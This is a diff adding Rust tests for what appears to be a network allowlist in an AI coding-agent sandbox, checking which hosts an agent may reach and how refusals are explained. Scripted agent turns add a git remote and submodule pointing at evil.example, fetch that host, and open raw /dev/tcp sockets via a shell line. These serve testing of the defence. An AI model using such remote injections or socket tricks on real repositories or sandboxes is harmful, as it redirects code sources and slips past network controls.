@@ -218,3 +218,109 @@ fn a_proxy_of_the_environment_hears_nothing() {
     assert!(!results[1].contains(&proxy), "{results:?}");
     assert_eq!(canary.accept().unwrap_err().kind(), ErrorKind::WouldBlock);
 }
+
+#[test]
+fn the_hosts_of_the_repositorys_remotes_are_on_the_list_and_no_run_adds_one() {
+    let (place, canary) = ground();
+    let pages = turns(&[
+        calls(&[(
+            "execute_command",
+            json!({"command": unseen("git remote add evil https://evil.example/a.git")}),
+        )]),
+        calls(&[(
+            "write_to_file",
+            json!({"path": "sub/.gitmodules", "content": "[submodule \"x\"]\n\turl = https://evil.example/x\n"}),
+        )]),
+        calls(&[fetch("http://named.example/a/b")]),
+        calls(&[fetch("http://evil.example/a")]),
+        says("done"),
+    ]);
+    let model = place.script("remotes", &pages);
+    let (_, events, _) = place.stream(&model, &["--mode", "agent", "look"]);
+    assert!(results(&events)[2].contains("nobody can be asked"), "{events:#?}");
+    place.git(&["remote", "add", "origin", "git@named.example:a/b.git"]);
+    for _ in 0..2 {
+        let (_, events, _) = place.stream(&model, &["--mode", "agent", "look"]);
+        let results = results(&events);
+        assert!(results[2].contains("welcome"), "{results:?}");
+        assert!(results[3].contains("nobody can be asked"), "{results:?}");
+    }
+    let rules = place.stance(&["policy", "list", "--json"]).report();
+    let named = |row: &&Value| row["names"].as_array().unwrap().contains(&json!("named.example"));
+    let row = rules.as_array().unwrap().iter().find(named).unwrap();
+    assert_eq!(
+        (&row["rule"], &row["verdict"]),
+        (&json!("net(HOST)"), &json!("allow")),
+        "{row:#}"
+    );
+    assert_eq!(canary.accept().unwrap_err().kind(), ErrorKind::WouldBlock);
+}
+
+#[test]
+fn the_host_where_a_model_of_the_command_line_answers_is_on_the_list() {
+    let (place, _canary) = ground();
+    let listed = |words: &[&str]| {
+        let said = place.stance(
+            &[
+                &[
+                    "explain",
+                    "web_fetch {\"url\": \"http://named.example/x\"}",
+                    "--mode",
+                    "plan",
+                ],
+                words,
+            ]
+            .concat(),
+        );
+        said.out.contains("runs, decided by")
+    };
+    assert!(!listed(&[]));
+    place.settings("[providers.anthropic]\nbase_url = \"https://named.example/v1\"\n");
+    assert!(listed(&[]));
+}
+
+#[test]
+fn a_person_reads_why_a_host_was_not_reached() {
+    let (mut place, canary) = ground();
+    std::fs::remove_file(place.repo().join(".env")).unwrap();
+    let own = canary.local_addr().unwrap().port();
+    place.variables.retain(|(name, _)| name != "STANCE_NAMES");
+    place
+        .variables
+        .push(("STANCE_NAMES".to_owned(), format!("docs.rs=127.0.0.1:{own}")));
+    let ask = |host: &str| {
+        let line =
+            format!("exec 3<>/dev/tcp/127.0.0.1/3128; printf 'GET http://{host}/ HTTP/1.1\\r\\n\\r\\n' >&3; cat <&3");
+        ("execute_command", json!({"command": unseen(&line)}))
+    };
+    let model = place.script(
+        "why",
+        &turns(&[
+            calls(&[ask("docs.rs"), ask("else.example"), ask("no.example")]),
+            says("done"),
+        ]),
+    );
+    let said = place.stance(&[
+        "run",
+        "--mode",
+        "agent",
+        "--model",
+        &model,
+        "--deny",
+        "net(no.example)",
+        "--yolo",
+        "go",
+    ]);
+    assert!(
+        said.out.contains("did not reach docs.rs: it leads to 127.0.0.1"),
+        "{said:?}"
+    );
+    assert!(said.out.contains("did not reach no.example: the rule"), "{said:?}");
+    assert!(!said.out.contains("hint: --allow"), "{said:?}");
+    let said = place.stance(&["run", "--mode", "agent", "--model", &model, "go"]);
+    assert!(
+        said.out.contains("did not reach else.example: it is not on the list"),
+        "{said:?}"
+    );
+    assert!(said.out.contains("hint: --allow 'net(else.example)'"), "{said:?}");
+}
